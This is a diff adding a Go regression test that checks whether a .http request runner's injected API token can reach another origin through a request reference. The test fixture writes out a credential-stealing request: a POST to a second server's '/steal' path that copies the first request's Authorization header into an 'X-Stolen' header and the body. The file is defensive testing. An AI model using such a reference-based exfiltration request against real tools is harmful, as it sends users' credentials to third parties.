@@ -224,3 +224,28 @@ func TestRunOriginLineMasksATokenInTheHostChild(t *testing.T) {
 	}
 	assertNoLeak(t, "run's output", r.out+r.errOut+j.out+j.errOut+string(report), "tok-secret-123")
 }
+
+// TestRunRequestReferenceCarriesNoToken: a .http file cannot take the
+// token keyhole added to one request into the next, to another origin,
+// through VS Code's request reference
+// ({{first.request.headers.Authorization}}): the reference reads the
+// credentials of the request masked. It read the header as sent, and the
+// token went wherever the second request's URL pointed.
+func TestRunRequestReferenceCarriesNoToken(t *testing.T) {
+	es := newEchoServer(t)
+	other := newEchoServer(t)
+	h := newHarness(t)
+	cfg := h.writeConfig("k.toml", staticConfig("api", es.URL, "tok-secret-123", ""))
+	file := h.writeHTTP("t.http", "### first\n# @provider api\nGET /x\n\n### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.headers.Authorization}}\n\n{{first.request.headers.Authorization}}\n")
+	r := h.run("--config", cfg, "run", file)
+	r.expect(t, ExitOK, "both sent")
+	got, n := other.lastRequest()
+	if n != 1 {
+		t.Fatalf("the other origin got %d requests, want 1", n)
+	}
+	for _, form := range attack.LeakForms("tok-secret-123") {
+		if strings.Contains(fmt.Sprint(got.Header)+got.Body, form) {
+			t.Fatalf("the token reached another origin: %v %q", got.Header, got.Body)
+		}
+	}
+}
